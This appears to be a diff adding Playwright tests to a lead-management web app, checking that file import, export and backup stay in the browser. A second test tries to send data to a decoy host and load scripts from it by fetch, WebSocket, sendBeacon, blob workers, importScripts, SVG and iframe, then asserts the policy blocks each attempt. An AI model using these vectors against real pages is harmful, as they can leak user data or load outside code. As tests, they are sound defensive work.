@@ -1,5 +1,15 @@
 import { BAIT_HOST, strayRequests } from './canary'
-import { chooseInMenu, expect, names, openLead, PAGE_SIZE, SERVICE_WORKER_BLOCKED, test, toast } from './console'
+import {
+  chooseInMenu,
+  expect,
+  names,
+  openLead,
+  openMenu,
+  PAGE_SIZE,
+  SERVICE_WORKER_BLOCKED,
+  test,
+  toast,
+} from './console'
 import { startHost } from './host'
 import { beforeWorker, WORKER_SCRIPT } from './requests'
 import { gatesScript, workerOf } from './timers'
@@ -28,6 +38,51 @@ test('[TRUST-1] a whole day of work makes no request after the start, and none e
   await page.getByRole('button', { name: 'Keyboard shortcuts' }).click()
   await expect(page.getByRole('dialog', { name: 'Keyboard shortcuts' })).toBeVisible()
   expect(await requests()).toEqual(start)
+})
+
+test('[TRUST-1] work on files makes no request either: they are read, written and offered in the page and its worker', async ({
+  console: { page, open },
+}) => {
+  const requested: string[] = []
+  page.context().on('request', (request) => requested.push(request.url()))
+  const offered: string[] = []
+  page.on('download', (file) => offered.push(file.url()))
+  await open()
+  const worker = await workerOf(page)
+  // Each of the files below is written by the worker, and offered by the page.
+  async function download(act: () => Promise<void>): Promise<string> {
+    const waiting = page.waitForEvent('download')
+    await act()
+    return (await waiting).path()
+  }
+  const started = [...requested]
+  const dialog = page.getByRole('dialog')
+  const fileField = dialog.locator('input[type=file]')
+
+  await chooseInMenu(page, 'Import leads…')
+  const buffer = Buffer.from('Name,Email\nGrace Hopper,grace@example.com\n,nobody@example.com\n')
+  await fileField.setInputFiles({ name: 'leads.csv', mimeType: 'text/csv', buffer })
+  await dialog.getByRole('button', { name: 'Show unreadable rows' }).click()
+  await download(() => dialog.getByRole('button', { name: 'Download with reasons' }).click())
+  await page.getByRole('button', { name: 'Import 1 lead', exact: true }).click()
+  await expect(names(page)).toHaveText(['Grace Hopper'])
+  await chooseInMenu(page, 'Import leads…')
+  await dialog.getByRole('textbox', { name: 'Paste rows' }).fill('Ada <ada@x.example>; "Müller, Jörg" <jm@y.example>')
+  await page.getByRole('button', { name: 'Import 2 leads', exact: true }).click()
+  await expect(names(page)).toHaveCount(3)
+  await download(() => chooseInMenu(page, 'Export leads'))
+  const backup = await download(() => chooseInMenu(page, 'Download backup'))
+  await chooseInMenu(page, 'Restore backup…')
+  await fileField.setInputFiles(backup)
+  await dialog.getByRole('button', { name: 'Restore', exact: true }).click()
+  await expect(toast(page, 'Backup restored: 3 leads')).toBeVisible()
+  await openMenu(page)
+  await expect(page.getByText(/The browser (has agreed to leave|may remove) your data/)).toBeVisible()
+
+  expect(offered).toHaveLength(3)
+  for (const address of offered) expect(address).toMatch(/^blob:/)
+  expect(requested.filter((address) => !address.startsWith('blob:'))).toEqual(started)
+  expect(await worker.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name))).toEqual([])
 })
 
 test('[TRUST-2] the policy stands in the page and in the headers of page, script and worker', async ({
@@ -76,6 +131,62 @@ test('[TRUST-2] the policy stops what is not ours', async ({ page }) => {
     return outcomes
   })
   expect(stopped).toEqual({ request: true, markup: true, worker: true })
+})
+
+test('[TRUST-2] the worker, which reads the files, and what a page makes out of a file may request nothing either', async ({
+  page,
+}) => {
+  const host = `files.${BAIT_HOST}`
+  await page.goto('/')
+  await expect(names(page).first()).toBeVisible()
+  const worker = await workerOf(page)
+  const inWorker = await worker.evaluate(async (address) => {
+    const isStopped = async (act: () => unknown) => {
+      try {
+        await act()
+        return false
+      } catch {
+        return true
+      }
+    }
+    const until = (target: EventTarget) =>
+      new Promise((resolve, reject) => {
+        target.addEventListener('open', resolve)
+        target.addEventListener('message', resolve)
+        target.addEventListener('error', reject)
+      })
+    const script = URL.createObjectURL(new Blob([`fetch('https://${address}/')`], { type: 'text/javascript' }))
+    return {
+      fetch: await isStopped(() => fetch(`https://${address}/`, { mode: 'no-cors' })),
+      own: await isStopped(() => fetch('/logo.png')),
+      blob: await isStopped(() => fetch(script)),
+      socket: await isStopped(() => until(new WebSocket(`wss://${address}/`))),
+      events: await isStopped(() => until(new EventSource(`https://${address}/`))),
+      worker: await isStopped(() => until(new Worker(script))),
+      script: await isStopped(() => (self as unknown as { importScripts(url: string): void }).importScripts(script)),
+    }
+  }, host)
+  for (const [way, isStopped] of Object.entries(inWorker)) expect(isStopped, way).toBe(true)
+
+  await page.evaluate((address) => {
+    const from = (text: string, type: string) => URL.createObjectURL(new Blob([text], { type }))
+    const add = (name: string, attributes: Record<string, string>) => {
+      const element = document.createElement(name)
+      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
+      document.body.append(element)
+    }
+    navigator.sendBeacon(`https://${address}/`, 'leads')
+    add('img', { src: `https://${address}/1.png` })
+    add('link', { rel: 'prefetch', href: `https://${address}/2` })
+    // A drawing and a page out of a file, which refer to others.
+    add('img', {
+      src: from(`<svg xmlns="http://www.w3.org/2000/svg"><image href="https://${address}/3"/></svg>`, 'image/svg+xml'),
+    })
+    add('iframe', { src: from(`<img src="https://${address}/4">`, 'text/html') })
+  }, host)
+  await page.getByRole('searchbox').fill('an')
+  await expect(page.getByRole('status').first()).toHaveText(/of 100 leads/)
+  expect(strayRequests().filter((request) => request.includes(host))).toEqual([])
 })
 
 test('[TRUST-3] what a lead says is in no log, title or address', async ({ console: { page, open } }) => {
